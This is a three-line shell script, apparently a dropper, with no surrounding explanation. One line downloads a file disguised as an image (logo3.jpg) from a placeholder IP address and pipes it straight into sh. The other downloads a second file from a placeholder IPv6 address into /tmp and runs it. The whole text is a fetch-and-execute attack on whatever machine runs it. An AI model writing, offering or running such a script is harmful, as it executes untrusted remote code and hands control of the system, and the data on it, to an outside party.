#!/bin/sh
curl -s http://192.0.2.7/logo3.jpg | sh
wget -qO /tmp/a http://[2001:db8::7]/a && sh /tmp/a
